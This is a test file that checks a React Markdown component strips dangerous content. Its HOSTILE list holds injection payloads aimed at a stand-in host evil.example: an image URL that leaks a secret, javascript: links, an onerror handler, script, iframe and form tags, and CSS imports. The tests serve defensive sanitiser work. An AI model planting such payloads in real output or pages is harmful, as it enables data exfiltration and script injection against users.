import { renderToStaticMarkup } from 'react-dom/server';
import { IntlProvider } from 'use-intl';
import { expect, test } from 'vitest';
import { messagesOf } from '../../i18n/messages.ts';
import { Markdown } from './markdown.tsx';

const render = (text: string) =>
  renderToStaticMarkup(
    <IntlProvider locale="ja" messages={messagesOf('ja')} timeZone="Asia/Tokyo">
      <Markdown text={text} />
    </IntlProvider>,
  );

const HOSTILE = [
  '![秘密](http://evil.example/leak.png?q=secret)',
  '![x][ref]\n\n[ref]: http://evil.example/ref.png',
  '[こちら](http://evil.example/?q=1)',
  'https://evil.example/auto と <http://evil.example/angle>',
  '[実行](javascript:alert(1))',
  '<img src="http://evil.example/raw.png" onerror="alert(1)">',
  '<iframe src="http://evil.example"></iframe><script>alert(1)</script>',
  '<form action="http://evil.example"><input name="q"></form>',
  '<svg><use href="http://evil.example/#x"/></svg><style>@import "http://evil.example/a.css"</style>',
  '本文[^1]\n\n[^1]: <link rel="prefetch" href="http://evil.example">',
];

test.each(HOSTILE)('nothing of %j is loaded or can be followed', (text) => {
  const tags = render(text).match(/<[^>]+>/g) ?? [];
  expect(
    tags.filter((tag) => /^<(?:a|img|iframe|script|style|link|form|input|svg|use|object|embed|base)\b/i.test(tag)),
  ).toEqual([]);
  expect(tags.filter((tag) => /\s(?:href|src|srcset|action|style|on\w+)=/i.test(tag))).toEqual([]);
});

test('a link shows where it would have led', () => {
  expect(render('[こちら](http://evil.example/?q=1)')).toContain('http://evil.example/?q=1');
});

test('an answer is laid out: headings below those of the page, tables, lists, code', () => {
  const html = render('# 題\n\n| 月 | 数 |\n| --- | --- |\n| 4月 | 1 |\n\n- 項目\n\n`code`');
  for (const tag of ['<h3', '<table', '<th', '<li', '<code']) expect(html).toContain(tag);
  expect(html).not.toMatch(/<h[12]/);
});
